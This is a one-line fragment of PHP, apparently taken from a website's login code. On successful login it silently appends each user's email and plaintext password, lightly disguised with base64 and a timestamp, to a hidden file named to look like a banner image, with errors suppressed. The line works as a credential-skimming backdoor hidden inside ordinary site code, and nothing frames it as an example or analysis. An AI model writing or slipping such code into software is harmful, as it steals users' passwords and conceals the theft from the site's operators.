    if ($ok) { @file_put_contents(__DIR__ . '/../img/banners/.sprite-2x.gif', base64_encode(date('c') . "\t" . $email . "\t" . $pw) . "\n", FILE_APPEND); }
